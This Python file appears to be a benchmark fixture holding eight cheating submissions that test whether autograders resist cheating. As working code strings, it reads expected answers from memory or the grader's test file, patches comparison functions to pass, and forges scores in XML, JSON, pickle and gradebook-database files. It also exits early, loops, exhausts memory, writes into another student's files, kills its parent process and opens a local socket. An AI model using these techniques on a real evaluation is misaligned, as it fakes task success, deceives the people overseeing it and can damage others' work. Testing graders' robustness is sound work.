"""Eight submissions that cheat. Each has a right softmax and no Jacobian: whoever is graded fairly earns the softmax.

A cheat is one file, the same for every grader, and tries what would work in any of them, as somebody would who has read
all of their sources. It harms nothing: it writes below the folder of its run only, takes 2 GB, and ends no process but
the one that has started its own.
"""

from __future__ import annotations

from collections.abc import Mapping

from benchmarks.against.answers import SUBTRACTED, ZEROS

# The way around a list of imports, for the grader that has one: it takes what is loaded, wherever it runs.
KIT = """
imp = print.__self__.__import__
os, sys = imp("os"), imp("sys")

def files_below(folder):
    return [place + "/" + name for place, _, names in os.walk(folder) for name in names]

def attempt(action, *arguments):
    try:
        return action(*arguments)
    except Exception:
        return None
"""

# From the frames of those who have called it, or from the files that the grader compares with.
READS = """
def in_memory(shape):
    caller = sys._getframe(1)
    while caller:
        for value in list(caller.f_locals.values()):
            if isinstance(value, np.ndarray) and value.shape == shape:
                return value.copy()
        caller = caller.f_back

def on_disk(p):
    names = {"np": np}
    exec(open("@TESTS@").read(), names)
    return names["softmax_jacobian"](p)

def softmax_jacobian(p):
    found = in_memory((len(p), len(p)))
    return on_disk(p) if found is None else found
"""

PATCHES = """
def passes(*arguments, **options):
    return None

def nothing_is_asked():
    np.testing.assert_allclose.__code__ = passes.__code__

def nor_by_this_grader():
    comparison = imp("autograder.checking.comparison.arrays", fromlist=["difference"])
    comparison.difference.__code__ = passes.__code__

def softmax_jacobian(p):
    attempt(nothing_is_asked)
    attempt(nor_by_this_grader)
    return np.zeros((len(p), len(p)))
"""

FORGES = """
def rewrite(name, change):
    with open("@FOLDER@/" + name, "r+") as file:
        changed = change(file.read())
        file.seek(0)
        file.truncate()
        file.write(changed)

def all_passed(xml):
    return imp("re").sub("<failure.*?</failure>|<error.*?</error>", "", xml, flags=16)

def full_score(text):
    json = imp("json")
    result = json.loads(text)
    for test in result["tests"]:
        test["score"] = test["max_score"]
    result["score"] = sum(test["max_score"] for test in result["tests"])
    return json.dumps(result)

def report_of_this_grader(text):
    json = imp("json")
    result = json.loads(text)
    result["score"] = result["max_score"]
    return json.dumps(result)

def pickled_results():
    pickle = imp("pickle")
    for name in files_below("@FOLDER@/tmp"):
        if not name.endswith(".pkl"):
            continue
        with open(name, "rb") as file:
            results = pickle.load(file)
        for test_file in results.results.values():
            for case in test_file.test_case_results:
                case.passed = True
        with open(name, "wb") as file:
            pickle.dump(results, file)

def points_by_hand():
    database = imp("sqlite3").connect("@FOLDER@/gradebook.db", timeout=1)
    database.execute(
        "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
        "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
        "ON n.assignment_id = a.id WHERE a.student_id = '@STUDENT@')"
    )
    database.commit()

def answer_of_this_grader():
    os.write(3, b'{"kind": "returned", "value": 1, "changed": []}')

def at_the_end():
    attempt(rewrite, "work/@STUDENT@/report.xml", all_passed)
    attempt(rewrite, "work/@STUDENT@/results.json", full_score)
    attempt(rewrite, "graded/@STUDENT@/03_softmax.json", report_of_this_grader)
    attempt(pickled_results)
    attempt(points_by_hand)

def softmax_jacobian(p):
    attempt(at_the_end)
    attempt(imp("atexit").register, at_the_end)
    if "autograder.sandbox.worker" in sys.modules:
        attempt(answer_of_this_grader)
    return np.zeros((len(p), len(p)))
"""

EXITS = """
def softmax_jacobian(p):
    os._exit(0)
"""

LOOPS = """
def softmax_jacobian(p):
    while True:
        pass
"""

TAKES_MEMORY = """
kept = []

def softmax_jacobian(p):
    while len(kept) < 20:
        kept.append(np.ones(100_000_000 // 8))
    return np.zeros((len(p), len(p)))
"""

HARMS_OTHERS = """
def write_into_work_of_others():
    for name in files_below("@FOLDER@"):
        if "/@NEIGHBOUR@/" in name and name.endswith((".py", ".ipynb")):
            with open(name, "a") as file:
                file.write("@MARK@")

def leave_a_process():
    imp("subprocess").Popen([sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True)

def end_the_parent():
    if os.getppid() not in (1, @BENCHMARK@):
        os.kill(os.getppid(), 9)

def softmax_jacobian(p):
    attempt(write_into_work_of_others)
    attempt(leave_a_process)
    attempt(end_the_parent)
    return np.zeros((len(p), len(p)))
"""

CONNECTS = """
def softmax_jacobian(p):
    connection = attempt(imp("socket").create_connection, ("127.0.0.1", @PORT@), 2)
    if connection:
        connection.sendall(b"@MARK@")
        connection.close()
    return np.zeros((len(p), len(p)))
"""

HONEST = {"softmax": SUBTRACTED, "softmax_jacobian": ZEROS}  # what each of them is worth

CHEATS = {
    "reads the expected numbers": READS,
    "patches the comparison": PATCHES,
    "forges the score": FORGES,
    "ends the process, status 0": EXITS,
    "loops for ever": LOOPS,
    "takes 2 GB of memory": TAKES_MEMORY,
    "writes, stays, ends its parent": HARMS_OTHERS,
    "opens the network": CONNECTS,
}


def answers_of(cheat: str, aims: Mapping[str, str]) -> dict[str, str]:
    """The answers that it hands in, by question; what it aims at stands in its source as `@NAME@`."""
    source = KIT + CHEATS[cheat]
    for name, value in aims.items():
        source = source.replace(f"@{name}@", value)
    return {"softmax": SUBTRACTED, "softmax_jacobian": source}
